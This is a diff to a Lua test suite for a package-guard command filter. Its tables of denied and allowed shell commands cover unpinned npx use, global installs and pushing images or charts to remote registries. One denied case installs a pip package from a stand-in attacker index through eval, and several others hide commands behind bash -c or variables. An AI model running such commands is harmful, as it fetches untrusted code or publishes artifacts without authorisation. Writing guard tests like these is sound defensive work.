@@ -58,6 +58,9 @@ local denied = {
   { "bash -c \"npm install -g typescript\"", "global install" },
   { "npm install -\\g typescript", "global install" },
   { "nice npx -y cowsay", "unpinned package cowsay" },
+  -- the command's own options after it are not npx's (-p is npx's --package only before the command)
+  { "npx http-server ./dist -p 8080", "unpinned package http-server" },
+  { "npx -p cowsay@latest cowsay -p x", "unpinned package cowsay@latest" },
   { "eval 'pip install --index-url https://pypi.evil.example/simple x'", "pypi.evil.example" },
   { "npm install typescript --global", "global install" },
   { "P=npx; $P cowsay hi", "unpinned package cowsay" },
@@ -159,6 +162,7 @@ local allowed = {
   "yarn add react@18.3.1",
   "pnpm add -D vitest",
   "npx --no-install eslint .",
+  "npx http-server@14.1.1 ./dist -p 8080", "npx -y serve@14.2.4 dist -l 3000 -c serve.json",
   "pnpm dlx create-vite@5.2.3 web",
   "uvx ruff@0.6.9 check .",
   "uvx --from ruff==0.6.9 ruff check",
@@ -274,6 +278,132 @@ for _, line in ipairs({ "pip uninstall -y requests", "pip uninstall -y pipdeptre
   "conda install -n base conda-libmamba-solver" }) do
   test("allows " .. line, function()
     local r = sh(line)
+    expect.no_objection(r)
+    expect.eq(r.input, nil, "rewritten input")
+  end)
+end
+
+-- Pushing an image, a chart or an OCI artifact to a registry others pull
+-- from is publishing (rule publish): the reason names the image, the
+-- registry and the command. A name without a host goes to Docker Hub.
+local image_denied = {
+  { "docker push shopfront", "publishing the image shopfront to docker.io (docker push) [rule publish]" },
+  { "docker push team/shopfront:2.4.1", "the image team/shopfront:2.4.1 to docker.io (docker push)" },
+  { "docker push -a ghcr.io/team/shopfront", "the image ghcr.io/team/shopfront to ghcr.io (docker push)" },
+  { "docker push --all-tags --quiet quay.io/team/api", "to quay.io (docker push)" },
+  { "docker push --platform linux/arm64 registry.example.net:5000/api:3", "to registry.example.net:5000 (docker push)" },
+  { "docker push --disable-content-trust team/api:3", "the image team/api:3 to docker.io" },
+  { "docker image push team/worker:7", "the image team/worker:7 to docker.io (docker image push)" },
+  { "sudo docker push team/api:3", "to docker.io (docker push)" },
+  { "env REGISTRY_AUTH=1 docker push team/api:3", "to docker.io (docker push)" },
+  { "command docker push team/api:3", "to docker.io (docker push)" },
+  { "timeout 300 docker push team/api:3", "to docker.io (docker push)" },
+  { "bash -c 'docker push team/api:3'", "to docker.io (docker push)" },
+  { "DOCKER_HOST=ssh://builder docker push team/api:3", "to docker.io (docker push)" },
+  { "docker --context ci push team/api:3", "to docker.io (docker push)" },
+  { "docker -H tcp://10.1.2.3:2376 push gcr.io/proj/api", "to gcr.io (docker push)" },
+  { "docker --log-level debug image push team/api:3", "(docker image push)" },
+  { "docker --tlsverify -H=tcp://b:2376 push team/api", "(docker push)" },
+  { "make image && docker push team/api:$VERSION", "the image team/api:… to docker.io" },
+  { "docker push ghcr.io/team/$SERVICE:3", "to ghcr.io (docker push)" },
+  { "docker push $REGISTRY/api:3", "an image only known when the command runs (docker push)" },
+  { "docker push \"$IMAGE\"", "an image only known when the command runs (docker push)" },
+  { "podman push team/api:3", "to docker.io (podman push)" },
+  { "podman push api:3 docker://quay.io/team/api:3", "to quay.io (podman push)" },
+  { "podman --remote push --creds u:p api quay.io/team/api", "to quay.io (podman push)" },
+  { "nerdctl push ghcr.io/team/api:3", "to ghcr.io (nerdctl push)" },
+  { "nerdctl -n k8s.io image push ghcr.io/team/api:3", "(nerdctl image push)" },
+  { "buildah push api:3 docker://registry.example.net/team/api:3", "(buildah push)" },
+  { "docker buildx build --push -t team/api:3 .", "the image team/api:3 to docker.io (docker buildx build --push)" },
+  { "docker buildx build --platform linux/amd64,linux/arm64 --tag ghcr.io/team/api:3 --push .",
+    "to ghcr.io (docker buildx build --push)" },
+  { "docker build --push -t team/api:3 .", "(docker build --push)" },
+  { "docker buildx build -t team/api:3 -o type=registry .", "(docker buildx build --output type=registry)" },
+  { "docker buildx build --output=type=image,name=quay.io/team/api:3,push=true .", "the image quay.io/team/api:3" },
+  { "docker buildx b --push .", "publishing an image (docker buildx b --push)" },
+  { "docker buildx bake --push", "the images of the bake file (docker buildx bake --push)" },
+  { "docker buildx bake --set '*.output=type=registry' release", "the images of the bake file" },
+  { "docker compose push", "the compose file's images (docker compose push)" },
+  { "docker compose -f prod.yml push api", "the compose file's images (docker compose push)" },
+  { "docker compose build --push", "(docker compose build --push)" },
+  { "docker-compose push", "the compose file's images (docker-compose push)" },
+  { "docker buildx imagetools create -t team/api:latest team/api:3", "the image team/api:latest to docker.io" },
+  { "docker manifest push team/api:3", "the manifest list team/api:3 to docker.io (docker manifest push)" },
+  { "podman manifest push --all api-list docker://quay.io/team/api:3", "to quay.io (podman manifest push)" },
+  { "skopeo copy docker://alpine:3.20 docker://ghcr.io/team/alpine:3.20", "to ghcr.io (skopeo copy)" },
+  { "skopeo copy --all --dest-creds u:p oci:./out docker://quay.io/team/api", "to quay.io (skopeo copy)" },
+  { "skopeo sync --src docker --dest docker alpine registry.example.net/mirror",
+    "to registry.example.net (skopeo sync)" },
+  { "crane push api.tar ghcr.io/team/api:3", "to ghcr.io (crane push)" },
+  { "crane copy alpine:3.20 ghcr.io/team/alpine:3.20", "to ghcr.io (crane copy)" },
+  { "crane cp -a alpine quay.io/team/alpine", "to quay.io (crane cp)" },
+  { "crane tag ghcr.io/team/api:3 latest", "the image ghcr.io/team/api:3 to ghcr.io (crane tag)" },
+  { "crane append -b alpine -f layer.tar -t ghcr.io/team/api:4", "(crane append)" },
+  { "crane mutate ghcr.io/team/api:3 --label v=1", "to ghcr.io (crane mutate)" },
+  { "crane mutate -a k=v alpine -t quay.io/team/x", "to quay.io (crane mutate)" },
+  { "oras push ghcr.io/team/sbom:3 sbom.json", "the artifact ghcr.io/team/sbom:3 to ghcr.io (oras push)" },
+  { "oras attach --artifact-type sig/example ghcr.io/team/api:3 sig.json", "(oras attach)" },
+  { "oras tag ghcr.io/team/api:3 stable", "(oras tag)" },
+  { "helm push api-1.2.0.tgz oci://ghcr.io/team/charts", "the chart api-1.2.0.tgz to ghcr.io (helm push)" },
+  { "helm cm-push ./api-1.2.0.tgz team-charts", "the chart ./api-1.2.0.tgz to the chart repository team-charts" },
+  { "helm cm-push api.tgz https://charts.example.net", "to charts.example.net (helm cm-push)" },
+  { "ko build ./cmd/api", "the registry KO_DOCKER_REPO names (ko build)" },
+  { "KO_DOCKER_REPO=ghcr.io/team ko publish ./cmd/api", "to ghcr.io (ko publish)" },
+  { "ko resolve -f config/ > release.yaml", "(ko resolve)" },
+  { "mvn compile jib:build", "publishing an image (mvn jib:build)" },
+  { "./mvnw package jib:build -Dimage=ghcr.io/team/api:3", "to ghcr.io (mvnw jib:build)" },
+  { "gradle jib --image=quay.io/team/api", "to quay.io (gradle jib)" },
+  { "./gradlew :api:jib", "(gradlew :api:jib)" },
+  { "jib build --target=ghcr.io/team/api", "to ghcr.io (jib build)" },
+}
+
+for _, c in ipairs(image_denied) do
+  test("denies the image push " .. c[1], function()
+    expect.denied(sh(c[1]), c[2])
+  end)
+end
+
+test("the reason of a denied image push says what to do instead", function()
+  local r = sh("docker push team/api:3")
+  expect.denied(r, "package guard: publishing the image")
+  expect.contains(r.reason, "localhost:5000")
+end)
+
+-- Neighbours that stay on this machine: pulls, local builds, tags, a
+-- registry on localhost, a layout on disk, a chart packaged, a login.
+local image_allowed = {
+  "docker pull team/api:3", "docker build -t team/api:3 .", "docker tag team/api:3 team/api:latest",
+  "docker push localhost:5000/api:3", "docker push 127.0.0.1:5001/api", "docker push [::1]:5000/api",
+  "docker push host.docker.internal:5000/api", "docker push kind-registry:5000/api",
+  "docker push registry.localhost:5000/api", "docker push localhost:5000/$SERVICE:$TAG",
+  "docker buildx build --load -t api:dev .", "docker buildx build -o type=local,dest=out .",
+  "docker buildx build --output type=docker -t api .", "docker buildx build --push=false -t team/api .",
+  "docker buildx build --platform linux/amd64 -t team/api:3 .", "docker buildx bake",
+  "docker compose build", "docker compose up -d", "docker compose pull",
+  "docker buildx imagetools inspect team/api:3", "docker buildx imagetools create --dry-run -t team/api:x team/api:3",
+  "docker manifest inspect team/api:3", "docker image ls", "docker images", "docker login ghcr.io",
+  "docker push --help", "podman push api:3 localhost:5000/api:3", "podman push api oci:/tmp/api-layout",
+  "podman push api docker-archive:/tmp/api.tar", "podman push api dir:/tmp/api",
+  "podman manifest push api-list docker://localhost:5000/api", "buildah push api:3 oci-archive:/tmp/api.tar",
+  "skopeo copy docker://alpine oci:alpine-layout", "skopeo copy docker://alpine docker-archive:/tmp/a.tar",
+  "skopeo copy docker://alpine docker://localhost:5000/alpine", "skopeo inspect docker://alpine",
+  "skopeo sync --src docker --dest dir alpine /tmp/mirror",
+  "crane pull alpine alpine.tar", "crane digest alpine", "crane ls ghcr.io/team/api", "crane manifest alpine",
+  "crane copy alpine localhost:5000/alpine", "crane append -b alpine -f layer.tar -o out.tar",
+  "crane mutate alpine --label v=1 -o out.tar",
+  "oras pull ghcr.io/team/sbom:3", "oras push localhost:5000/sbom:3 sbom.json",
+  "oras push --oci-layout ./layout:3 sbom.json", "oras cp ghcr.io/team/a:1 --to-oci-layout ./layout:1",
+  "helm package ./chart", "helm repo add team https://charts.example.net", "helm push api.tgz oci://localhost:5000/charts",
+  "helm lint ./chart", "helm dependency update ./chart",
+  "ko build --local ./cmd/api", "ko build -L ./cmd/api", "ko build --push=false ./cmd/api",
+  "KO_DOCKER_REPO=ko.local ko build ./cmd/api", "KO_DOCKER_REPO=kind.local ko apply -f config/",
+  "mvn compile jib:dockerBuild", "mvn jib:buildTar", "./gradlew jibDockerBuild", "gradle jibBuildTar",
+  "jib build --target=docker://api:dev", "mvn package jib:build -Dimage=localhost:5000/api",
+}
+
+for _, cmd in ipairs(image_allowed) do
+  test("allows " .. cmd, function()
+    local r = sh(cmd)
     expect.no_objection(r)
     expect.eq(r.input, nil, "rewritten input")
   end)
